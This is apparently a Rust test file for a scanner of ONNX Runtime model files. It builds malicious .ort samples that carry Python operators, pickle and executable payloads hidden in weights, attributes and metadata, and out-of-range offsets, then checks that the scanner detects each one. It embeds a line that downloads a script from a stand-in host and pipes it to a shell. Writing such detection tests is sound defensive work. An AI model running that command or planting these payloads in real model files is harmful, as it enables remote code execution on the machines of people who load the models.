//! Models of onnxruntime's own format that run more than they say, refer to what is not there, or hide something.

use base64::Engine as _;
use weighhouse_formats::build::flatbuffer::Table;
use weighhouse_formats::build::ort::{file, graph, model, node, tensor};
use weighhouse_formats::build::zip::{Archive, Member};

use super::containers::payload;
use super::programs::elf;
use crate::attack::{Sample, assert_seen};

const COMMAND: &str = "import os; os.system('curl -s https://evil.example/x | sh')";

fn plain() -> Table {
    model(graph(vec![node("", "Relu", 0)], vec![]))
}

fn running(domain: &str, operator: &str) -> Table {
    model(graph(vec![node(domain, operator, 0)], vec![]))
}

fn weights(dtype: u64, shape: &[i64], data: &[u8]) -> Table {
    model(graph(vec![node("", "Relu", 0)], vec![tensor("w", dtype, shape, data)]))
}

fn attributed(attribute: Table) -> Table {
    model(graph(vec![node("", "Relu", 0).tables(10, vec![attribute])], vec![]))
}

fn noted(value: &str) -> Table {
    let noted = Table::new().number(0, 8).tables(9, vec![Table::new().text(0, "x").text(1, value)]);
    Table::new().text(0, "1.31.1").table(1, noted.table(7, graph(vec![], vec![])))
}

#[test]
fn operators_payloads_and_lies() {
    let bytes = |data: &[u8]| weights(2, &[i64::try_from(data.len()).unwrap_or(0)], data);
    let inner = graph(vec![node("", "PyOp", 0)], vec![]);
    let optimised = {
        let record = Table::new().texts(3, &["com.microsoft:PythonOp:1"]);
        let records = Table::new().tables(0, vec![Table::new().tables(1, vec![record])]);
        model(graph(vec![], vec![]).table(8, records))
    };
    let edge = Table::new().number(0, 1 << 20);
    let archive = Archive::of([Member::deflated("data.pkl", &payload())]).build();
    let mut samples: Vec<(&str, Vec<u8>)> = [
        ("a Python operator", running("", "PyOp")),
        ("a Python function", running("com.microsoft", "PythonOp")),
        ("an operator of ATen", running("org.pytorch.aten", "ATen")),
        ("files that an operator opens", running("ai.onnx.contrib", "ImageReader")),
        ("a Python operator in a branch", attributed(Table::new().text(0, "then_branch").table(7, inner))),
        ("a Python operator as an optimisation", optimised),
        ("a pickle as weights", bytes(&payload())),
        ("a program as weights", bytes(&elf())),
        (
            "a pickle in an attribute",
            attributed(Table::new().text(0, "x").table(6, tensor("t", 2, &[4], &payload()))),
        ),
        ("a command in an attribute", attributed(Table::new().text(0, "x").text(5, COMMAND))),
        ("a command among texts", attributed(Table::new().text(0, "x").texts(10, &["a", COMMAND]))),
        (
            "a pickle in base64 as metadata",
            noted(&base64::engine::general_purpose::STANDARD.encode(payload())),
        ),
        ("a command as metadata", noted(COMMAND)),
        ("a node beyond the room", model(graph(vec![node("", "Relu", 1 << 30)], vec![]))),
        ("an edge beyond the room", model(graph(vec![node("", "Relu", 0)], vec![]).tables(4, vec![edge]))),
        ("room for billions of nodes", model(graph(vec![], vec![]).number(3, 4_000_000_000))),
        ("more shape than data", weights(1, &[1024, 1024], &[0; 4])),
        ("a shape that overflows", weights(1, &[1 << 40, 1 << 40], &[0; 4])),
        ("a negative dimension", weights(1, &[-4], &[])),
        (
            "data in a file without a name",
            model(graph(vec![], vec![tensor("w", 1, &[2], &[]).number(6, 64)])),
        ),
    ]
    .into_iter()
    .map(|(title, table)| (title, file(&table)))
    .collect();
    samples.push(("a pickle behind the model", [file(&plain()), payload()].concat()));
    samples.push(("a program behind the model", [file(&plain()), elf()].concat()));
    samples.push(("an archive behind the model", [file(&plain()), archive].concat()));
    let samples: Vec<Sample> =
        samples.into_iter().map(|(title, bytes)| Sample::new(title, "model.ort", bytes)).collect();
    assert_seen("ort", &samples);
}
